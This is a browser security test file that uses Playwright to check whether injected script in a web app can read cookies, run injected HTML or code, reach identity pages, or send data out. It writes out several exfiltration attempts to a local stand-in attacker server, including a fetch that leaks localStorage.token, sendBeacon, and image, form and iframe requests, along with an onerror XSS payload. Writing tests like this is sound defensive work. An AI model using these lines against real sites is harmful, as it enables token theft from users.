/**
 * What a script injected into the application could do in a real browser (docs/security/attacks.md): nothing leaves, nothing is drawn from text, and the identity pages stay out of reach, by the
 * policy and, should that be missing, by the origin.
 */
import { createServer } from 'node:http'
import type { Server } from 'node:http'

import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { Browser } from 'playwright-core'

import { openChromium, openVisitor, signIn } from '#tests/chromium.ts'
import type { Visitor } from '#tests/chromium.ts'
import { openServedApp } from '#tests/served-app.ts'
import type { ServedApp } from '#tests/served-app.ts'

let app: ServedApp
let browser: Browser
let visitor: Visitor
let stranger: Server
let strangerUrl: string
let stolen = 0

beforeAll(async () => {
  stranger = createServer((_request, response) => {
    stolen += 1
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.end('globalThis.isOwned = true')
  })
  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve))
  const address = stranger.address()
  strangerUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`
  app = await openServedApp()
  browser = await openChromium()
  visitor = await openVisitor(browser)
  await signIn(visitor, app, 'REG')
})
afterAll(async () => {
  await visitor.close()
  await browser.close()
  await app.close()
  await new Promise((resolve) => stranger.close(resolve))
})

/** In the page, as its own script would: what came of it, or the name of the fault. */
const inPage = (script: string): Promise<unknown> =>
  visitor.page.evaluate(`(async () => { ${script} })().catch((fault) => fault.name)`)

// Later, and not in the debugger's own turn, which policies do not bind.
const later = (code: string): string =>
  `return new Promise((tell) => setTimeout(() => { try { tell(${code}) } catch (fault) { tell(fault.name) } }))`

describe('a script in the application’s page', () => {
  it('reads no credential', async () => {
    expect(await inPage('return document.cookie')).toBe('')
    const kept = JSON.stringify(await inPage('return { ...localStorage, ...sessionStorage }'))
    const [cookie] = (await visitor.context.cookies(app.address)).filter(
      ({ name }) => name === '__Host-sid',
    )
    expect(kept).toContain('s1.')
    expect(kept).not.toContain(cookie?.value)
  })

  it('sends nothing away', async () => {
    const ways = [
      `await fetch('${strangerUrl}/?' + localStorage.token)`,
      `await fetch('${strangerUrl}', { mode: 'no-cors', method: 'POST', body: 'x' })`,
      `new Image().src = '${strangerUrl}/?image'`,
      `navigator.sendBeacon('${strangerUrl}', 'x')`,
      `const f = document.createElement('form'); f.method = 'post'; f.action = '${strangerUrl}'; document.body.append(f); f.submit()`,
      `new EventSource('${strangerUrl}')`,
      `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${strangerUrl}'; document.head.append(l)`,
      `const i = document.createElement('iframe'); i.src = '${strangerUrl}'; document.body.append(i)`,
    ]
    for (const way of ways) await inPage(way)
    expect(new URL(visitor.page.url()).origin).toBe(app.address)
    expect(stolen).toBe(0)
  })

  it('draws nothing from text and runs nothing from elsewhere', async () => {
    expect(await inPage(`document.body.innerHTML = '<img src=x onerror=alert(1)>'`)).toBe(
      'TypeError',
    )
    expect(await inPage(`document.write('<p>')`)).toBe('TypeError')
    expect(await inPage(`trustedTypes.createPolicy('default', { createHTML: (t) => t })`)).toBe(
      'TypeError',
    )
    expect(await inPage(later(`eval('1 + 1')`))).toBe('EvalError')
    await inPage(
      `const s = document.createElement('script'); s.append('globalThis.isOwned = true'); document.body.append(s)`,
    )
    expect(await inPage(`document.createElement('script').src = '${strangerUrl}'`)).toBe(
      'TypeError',
    )
    expect(await inPage('return globalThis.isOwned ?? false')).toBe(false)
    expect(stolen).toBe(0)
  })

  it('isInScope no identity page', async () => {
    const { idUrl } = app.app.config
    expect(
      await inPage(`return (await fetch('${idUrl}/', { credentials: 'include' })).status`),
    ).toBe('TypeError')
    const seen = await inPage(
      // Until the page has arrived the window is an empty one of ours, which may be looked into.
      `const w = window.open('${idUrl}/')
       for (let looks = 0; looks < 100; looks += 1) {
         if (w === null || w.closed) return true
         String(w.document?.title)
         await new Promise((r) => setTimeout(r, 100))
       }
       return 'seen into'`,
    )
    expect([true, 'SecurityError']).toContain(seen)
  })

  it('isInScope none either where no policy stands, for they are of another origin', async () => {
    const bare = await browser.newContext({ bypassCSP: true })
    const page = await bare.newPage()
    await page.goto(app.address)
    const { idUrl } = app.app.config
    const read = await page.evaluate(
      (url) =>
        fetch(url, { credentials: 'include' }).then(
          () => 'read',
          (fault: unknown) => (fault instanceof Error ? fault.name : 'odd'),
        ),
      `${idUrl}/.well-known/openid-configuration`,
    )
    expect(read).toBe('TypeError')
    await page.evaluate((url) => {
      const frame = document.createElement('iframe')
      frame.src = url
      document.body.append(frame)
    }, `${idUrl}/`)
    await expect
      .poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:')))
      .toBe(true)
    await bare.close()
  })
})
